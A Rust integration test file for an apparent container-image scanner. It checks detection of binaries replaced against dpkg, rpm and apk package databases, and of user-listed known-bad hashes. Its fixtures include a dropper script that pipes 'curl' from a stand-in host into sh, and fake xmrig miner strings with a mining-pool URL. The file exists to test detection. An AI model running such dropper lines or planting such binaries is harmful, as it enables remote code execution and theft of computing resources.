//! The image's own package database as ground truth (issue 9, item 6), and known-bad
//! hashes (item 5), end to end through the CLI:
//! - dpkg: the real Debian bookworm minbase rootfs (cached by `scripts/debian-rootfs.sh`),
//!   untouched → no replaced binaries and ~no unowned system executables; with `ls`
//!   replaced by a tiny ELF in a second layer → IMG-REPLACED-BINARY naming coreutils and
//!   both MD5s (dpkg records `/bin/ls`; merged /usr puts the file at `usr/bin/ls`);
//! - rpm: a real rpmdb.sqlite made with Debian's rpm (`scripts/rpmdb-fixture.sh`);
//! - apk: Alpine's packages cannot be fetched here, so the installed database is written
//!   by this test in its documented format (<https://wiki.alpinelinux.org/wiki/Apk_spec>);
//! - a user's `--signatures DIR/known-bad-hashes.toml` makes a fixture file CRITICAL.

mod common;

use common::{imgscan, outs};
use imgscan::analyzers::{packages, ImageFacts, LayerFacts, ScanVisitor};
use imgscan_testkit::{single_image_layout, Comp, Ent, ImageSpec, Layer};
use serde_json::Value;
use sha2::Digest as _;
use std::io::Read;
use std::process::Command;
use std::sync::Arc;

fn script_path(script: &str) -> std::path::PathBuf {
    let o = Command::new("bash")
        .arg(format!("{}/scripts/{script}", env!("CARGO_MANIFEST_DIR")))
        .output()
        .expect("running the fixture script");
    assert!(
        o.status.success(),
        "{script} failed: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    let out = String::from_utf8(o.stdout).unwrap();
    out.lines().last().unwrap_or("").trim().into()
}

fn md5_hex(b: &[u8]) -> String {
    hex::encode(md5::Md5::digest(b))
}

fn sha256_hex(b: &[u8]) -> String {
    hex::encode(sha2::Sha256::digest(b))
}

/// A file's content from a tar.
fn tar_file(tar: &[u8], path: &str) -> Option<Vec<u8>> {
    let mut ar = tar::Archive::new(tar);
    for e in ar.entries().ok()? {
        let mut e = e.ok()?;
        let p = e.path().ok()?.to_string_lossy().into_owned();
        if p.trim_start_matches("./") == path {
            let mut v = Vec::new();
            e.read_to_end(&mut v).ok()?;
            return Some(v);
        }
    }
    None
}

/// Scan `spec` through the CLI; the report as JSON.
fn scan(spec: &ImageSpec, extra: &[&str]) -> Value {
    let dir = tempfile::tempdir().unwrap();
    let layout = dir.path().join("img");
    single_image_layout(&layout, spec, "t");
    let target = format!("oci-dir:{}", layout.display());
    let mut args = vec![
        "scan",
        &target,
        "--format",
        "json",
        "--fail-on",
        "none",
        "-q",
    ];
    args.extend_from_slice(extra);
    let o = imgscan(&args);
    let (out, err, _) = outs(&o);
    let v: Value = serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out}\n{err}"));
    v["reports"][0].clone()
}

fn findings<'a>(report: &'a Value, id: &str) -> Vec<&'a Value> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["id"] == id)
        .collect()
}

/// Walk `spec` with the library and run the package check alone (for its counts).
fn check(spec: &ImageSpec) -> packages::PackageCheck {
    let dir = tempfile::tempdir().unwrap();
    let layout = dir.path().join("img");
    single_image_layout(&layout, spec, "t");
    let target =
        imgscan::reference::Target::parse(&format!("oci-dir:{}", layout.display())).unwrap();
    let opened = imgscan::source::open(&target, &Default::default()).unwrap();
    let sigs = Arc::new(imgscan::signatures::Signatures::embedded().unwrap());
    let limits = imgscan::limits::Limits::default();
    let mut walk = imgscan::layers::walk_image(&opened[0], &limits, 2, |_| {
        ScanVisitor::new(Arc::clone(&sigs), &limits).threaded()
    });
    let mut facts: Vec<LayerFacts> = Vec::new();
    for v in &mut walk.visitors {
        v.finish();
        facts.push(std::mem::take(&mut v.scan.facts));
    }
    let mut out = Vec::new();
    packages::check(&walk.fs, &ImageFacts { layers: &facts }, &mut out)
}

fn debian() -> Vec<u8> {
    std::fs::read(script_path("debian-rootfs.sh")).unwrap()
}

#[test]
fn debian_untouched_has_no_replaced_binaries() {
    let spec = ImageSpec::new(vec![Layer::from_tar(&debian(), Comp::Gzip)]);
    let res = check(&spec);
    eprintln!(
        "debian minbase: {} owned paths, {} executables compared, {} unowned: {:?}",
        res.owned,
        res.compared,
        res.unowned.len(),
        res.unowned
    );
    assert!(res.owned > 1000 && res.compared > 300, "{res:?}");
    assert!(res.replaced.is_empty(), "{:?}", res.replaced);
    assert!(res.unowned.len() <= 5, "{:?}", res.unowned);
    let report = scan(&spec, &[]);
    assert!(findings(&report, "IMG-REPLACED-BINARY").is_empty());
    assert!(findings(&report, "IMG-PKGDB-SKIPPED").is_empty());
}

#[test]
fn debian_with_ls_replaced_is_reported() {
    let tar = debian();
    let md5sums = tar_file(&tar, "var/lib/dpkg/info/coreutils.md5sums").unwrap();
    let recorded = String::from_utf8(md5sums)
        .unwrap()
        .lines()
        .find(|l| l.ends_with(" bin/ls") || l.ends_with(" usr/bin/ls"))
        .map(|l| l[..32].to_string())
        .expect("coreutils records ls");
    // A plain ELF in place of ls: MEDIUM alone.
    let fake = imgscan_testkit::tiny_elf(b"nothing to see");
    let spec = ImageSpec::new(vec![
        Layer::from_tar(&tar, Comp::Gzip),
        Layer::new(&[Ent::exe("usr/bin/ls", &fake)], Comp::Gzip),
    ]);
    let report = scan(&spec, &[]);
    let f = findings(&report, "IMG-REPLACED-BINARY");
    assert_eq!(f.len(), 1, "{report:#}");
    assert_eq!(f[0]["severity"], "MEDIUM");
    let ev = &f[0]["evidence"][0];
    assert_eq!(ev["signature"], "replaced-binary:coreutils");
    let excerpt = ev["excerpt"].as_str().unwrap();
    assert!(excerpt.contains(&recorded), "{excerpt}");
    assert!(excerpt.contains(&md5_hex(&fake)), "{excerpt}");
    assert_eq!(ev["location"]["sha256"], sha256_hex(&fake).as_str());

    // With miner strings too: HIGH or more, and the replaced-binary evidence is kept.
    let miner = imgscan_testkit::tiny_elf(
        b"Usage: xmrig [OPTIONS]\n--donate-level=N\nstratum+tcp://pool.minexmr.com:4444\n",
    );
    let spec = ImageSpec::new(vec![
        Layer::from_tar(&tar, Comp::Gzip),
        Layer::new(&[Ent::exe("usr/bin/ls", &miner)], Comp::Gzip),
    ]);
    let report = scan(&spec, &[]);
    let on_ls: Vec<&Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| {
            f["evidence"][0]["location"]["path"] == "usr/bin/ls"
                && !f["id"].as_str().unwrap().starts_with("YARAL-")
        })
        .collect();
    assert_eq!(on_ls.len(), 1, "{report:#}");
    assert!(matches!(
        on_ls[0]["severity"].as_str(),
        Some("HIGH" | "CRITICAL")
    ));
    assert!(on_ls[0]["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .any(|e| e["signature"] == "replaced-binary:coreutils"));
}

#[test]
fn rpm_database_replaced_file() {
    let root = script_path("rpmdb-fixture.sh").display().to_string();
    let db = std::fs::read(format!("{root}/var/lib/rpm/rpmdb.sqlite")).unwrap();
    let hello = std::fs::read(format!("{root}/usr/bin/imgscan-hello")).unwrap();
    let base = vec![
        Ent::file("var/lib/rpm/rpmdb.sqlite", &db),
        Ent::exe("usr/bin/imgscan-hello", &hello),
    ];
    let clean = ImageSpec::new(vec![Layer::new(&base, Comp::Gzip)]);
    let res = check(&clean);
    assert_eq!(res.compared, 1, "{res:?}");
    assert!(res.replaced.is_empty());
    assert!(findings(&scan(&clean, &[]), "IMG-REPLACED-BINARY").is_empty());

    let evil = b"#!/bin/sh\ncurl -s http://x.example/m | sh\n";
    let spec = ImageSpec::new(vec![
        Layer::new(&base, Comp::Gzip),
        Layer::new(&[Ent::exe("usr/bin/imgscan-hello", evil)], Comp::Gzip),
    ]);
    let report = scan(&spec, &[]);
    let on: Vec<&Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| {
            f["evidence"][0]["location"]["path"] == "usr/bin/imgscan-hello"
                && !f["id"].as_str().unwrap().starts_with("YARAL-")
        })
        .collect();
    assert_eq!(on.len(), 1, "{report:#}");
    let ev: Vec<&Value> = on[0]["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["signature"] == "replaced-binary:imgscan-hello")
        .collect();
    assert_eq!(ev.len(), 1, "{report:#}");
    let excerpt = ev[0]["excerpt"].as_str().unwrap();
    assert!(excerpt.contains(&sha256_hex(&hello)), "{excerpt}");
    assert!(excerpt.contains(&sha256_hex(evil)), "{excerpt}");
    // The dropper line makes it HIGH (replaced + another signal).
    assert!(matches!(
        on[0]["severity"].as_str(),
        Some("HIGH" | "CRITICAL")
    ));
}

#[test]
fn garbage_rpmdb_is_reported_as_skipped() {
    let spec = ImageSpec::new(vec![Layer::new(
        &[
            Ent::file(
                "var/lib/rpm/rpmdb.sqlite",
                b"SQLite format 3\0 but not really",
            ),
            Ent::file("var/lib/rpm/Packages", b"\0\0\0\0bdb"),
        ],
        Comp::Gzip,
    )]);
    let report = scan(&spec, &[]);
    let f = findings(&report, "IMG-PKGDB-SKIPPED");
    assert_eq!(f.len(), 2, "{report:#}");
    assert!(f.iter().all(|f| f["severity"] == "INFO"));
}

/// apk's installed database, written as apk writes it.
fn apk_db(files: &[(&str, &str, &[u8])]) -> Vec<u8> {
    use base64::Engine;
    let mut s = String::from("C:Q1aGVsbG8=\nP:busybox\nV:1.36.1-r15\nA:x86_64\n");
    for (dir, name, data) in files {
        let sha1 = sha1::Sha1::digest(data);
        s.push_str(&format!(
            "F:{dir}\nR:{name}\na:0:0:755\nZ:Q1{}\n",
            base64::engine::general_purpose::STANDARD.encode(sha1)
        ));
    }
    s.push('\n');
    s.into_bytes()
}

#[test]
fn apk_database_replaced_file() {
    let busybox = imgscan_testkit::tiny_elf(b"BusyBox v1.36.1");
    let base = vec![
        Ent::file(
            "lib/apk/db/installed",
            apk_db(&[("bin", "busybox", &busybox)]),
        ),
        Ent::exe("bin/busybox", &busybox),
    ];
    let clean = ImageSpec::new(vec![Layer::new(&base, Comp::Gzip)]);
    let res = check(&clean);
    assert_eq!((res.compared, res.replaced.len()), (1, 0), "{res:?}");

    let other = imgscan_testkit::tiny_elf(b"something else");
    let spec = ImageSpec::new(vec![
        Layer::new(&base, Comp::Gzip),
        Layer::new(&[Ent::exe("bin/busybox", &other)], Comp::Gzip),
    ]);
    let report = scan(&spec, &[]);
    let f = findings(&report, "IMG-REPLACED-BINARY");
    assert_eq!(f.len(), 1, "{report:#}");
    assert_eq!(f[0]["evidence"][0]["signature"], "replaced-binary:busybox");
    assert!(f[0]["evidence"][0]["excerpt"]
        .as_str()
        .unwrap()
        .contains("sha1"));
}

#[test]
fn user_known_bad_hash_makes_a_file_critical() {
    let payload = b"#!/bin/sh\necho a harmless test payload\n";
    let spec = ImageSpec::new(vec![Layer::new(
        &[Ent::exe("opt/tool/run", payload)],
        Comp::Gzip,
    )]);
    // Not listed: nothing.
    assert!(findings(&scan(&spec, &[]), "IMG-KNOWN-BAD-HASH").is_empty());
    let dir = tempfile::tempdir().unwrap();
    let h = sha256_hex(payload);
    std::fs::write(
        dir.path().join("known-bad-hashes.toml"),
        format!(
            "[[hash]]\nsha256 = \"{h}\"\nname = \"test-family\"\nwhat = \"test payload\"\nsource = \"tests/pkgdb.rs\"\n"
        ),
    )
    .unwrap();
    let sigdir = dir.path().display().to_string();
    let report = scan(&spec, &["--signatures", &sigdir]);
    let f = findings(&report, "IMG-KNOWN-BAD-HASH");
    assert_eq!(f.len(), 1, "{report:#}");
    assert_eq!(f[0]["severity"], "CRITICAL");
    let ev = &f[0]["evidence"][0];
    assert!(ev["excerpt"].as_str().unwrap().contains(&h));
    assert!(ev["excerpt"].as_str().unwrap().contains("tests/pkgdb.rs"));
    assert_eq!(ev["location"]["sha256"], h.as_str());
}
